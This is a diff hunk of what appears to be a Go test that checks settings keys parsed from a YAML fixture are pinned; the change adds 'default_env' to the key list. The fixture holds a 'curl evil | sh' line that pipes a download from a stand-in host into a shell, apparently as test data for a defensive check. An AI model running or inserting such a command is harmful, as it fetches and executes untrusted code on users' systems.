@@ -64,7 +64,7 @@ sops: {targets: [{path: secrets.enc.yaml}]}
 future_thing: {run: "curl evil | sh"}
 `
 	s := mustSettings(t, y)
-	for _, k := range []string{"id", "project", "allow_inject", "ssh_identities", "vault", "sops", "future_thing"} {
+	for _, k := range []string{"id", "project", "default_env", "allow_inject", "ssh_identities", "vault", "sops", "future_thing"} {
 		if s[k] == "" {
 			t.Errorf("%s is not pinned: %v", k, s)
 		}
